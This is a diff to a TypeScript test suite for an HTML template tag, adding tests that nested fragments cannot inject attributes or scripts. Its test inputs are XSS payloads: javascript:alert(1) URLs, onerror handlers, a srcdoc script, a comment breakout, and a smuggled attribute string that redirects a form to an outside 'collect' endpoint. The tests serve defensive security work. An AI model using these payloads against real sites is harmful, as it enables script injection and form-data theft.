@@ -122,9 +122,6 @@ describe('html tag: URL attributes', () => {
       html`<a href="${'java'}&NewLine;script:alert(1)">x</a>`,
       html`<a href="${'jav'}&#97;script:alert(1)">x</a>`,
       html`<a href=${'javascript'}:alert(1)>x</a>`,
-      html`<a href="${html('javascript:alert(1)')}">x</a>`,
-      html`<a href="${html`javascript:${'alert(1)'}`}">x</a>`,
-      html`<a href=${html('"javascript:alert(1)"')}>x</a>`,
       html`<a href="${['java', 'script:', 'alert(1)']}">x</a>`,
     ].map(String);
     for (const markup of cases) {
@@ -227,8 +224,8 @@ describe('html tag: values cannot leave their place', () => {
     for (const [name, build, message] of refusals) assert.throws(build, (error: unknown) => error instanceof TypeError && message.test(error.message), name);
   });
 
-  it('empty values and nested fragments may go anywhere', () => {
-    assert.equal(html`<input ${null}${undefined}${false}${''} ${html('checked')}>`.toString(), '<input  checked>');
+  it('empty values, and empty fragments, may go anywhere', () => {
+    assert.equal(html`<input ${null}${undefined}${false}${''} ${html('')}${html``} checked>`.toString(), '<input   checked>');
     assert.equal(html`<button onclick="${''}">x</button>`.toString(), '<button onclick="">x</button>');
     assert.equal(html`<script>${null}</script>`.toString(), '<script></script>');
     assert.equal(html`<p>${html('<b>')}${'<i>'}${html('</b>')}</p>`.toString(), '<p><b>&lt;i&gt;</b></p>');
@@ -240,3 +237,48 @@ describe('html tag: values cannot leave their place', () => {
     assert.ok(markup.endsWith('<p>&lt;b&gt;</p>'));
   });
 });
+
+describe('html tag: a nested fragment has no more power than its values', () => {
+  const hostileSku = '1 form=pageForm formaction=https://elsewhere.example/collect style=position:fixed;inset:0';
+
+  it('a fragment placed in an attribute list is refused, so it cannot add attributes', () => {
+    const attributes = html`data-sku=${hostileSku}`;
+    assert.throws(() => html`<button ${attributes}>Buy</button>`, (error: unknown) => error instanceof TypeError && /only where an element's content goes/.test(error.message));
+  });
+
+  it('a fragment placed as an unquoted, quoted or URL attribute value is refused', () => {
+    const name = 'x href=javascript:alert(1) onmouseover=alert(1)';
+    for (const build of [
+      () => html`<a title=${html`${name}`}>x</a>`,
+      () => html`<a title="${html`${name}`}">x</a>`,
+      () => html`<a href="${html('javascript:alert(1)')}">x</a>`,
+      () => html`<a href=${html('"javascript:alert(1)"')}>x</a>`,
+      () => html`<a href="${html`javascript:${'alert(1)'}`}">x</a>`,
+    ]) {
+      assert.throws(build, TypeError);
+    }
+  });
+
+  it('the guards for on*, srcdoc, <script>, <style> and comments hold when the value is wrapped', () => {
+    const wrapped = html`${'alert(1)'}`;
+    for (const build of [
+      () => html`<img onerror="${wrapped}">`,
+      () => html`<img ONERROR=${wrapped}>`,
+      () => html`<iframe srcdoc="${html('<script>alert(1)</script>')}"></iframe>`,
+      () => html`<script>${wrapped}</script>`,
+      () => html`<style>${html`p{color:${'red'}}`}</style>`,
+      () => html`<svg><style>${wrapped}</style></svg>`,
+      () => html`<!-- ${html('--><img src=x onerror=alert(1)>')} -->`,
+    ]) {
+      assert.throws(build, TypeError);
+    }
+  });
+
+  it('fragments in element content keep working: lists, nesting, fragments that open or close a tag', () => {
+    const item = (name: string) => html`<li>${name}</li>`;
+    assert.equal(html`<ul>${['<a>', 'b'].map(item)}</ul>`.toString(), '<ul><li>&lt;a&gt;</li><li>b</li></ul>');
+    assert.equal(html`<div>${html`<p>${html`<b>${'x'}</b>`}</p>`}</div>`.toString(), '<div><p><b>x</b></p></div>');
+    assert.equal(html`${html`<a href=`}${'javascript:alert(1)'}>x</a>`.toString(), `<a href=${BLOCKED}>x</a>`);
+  });
+});
+
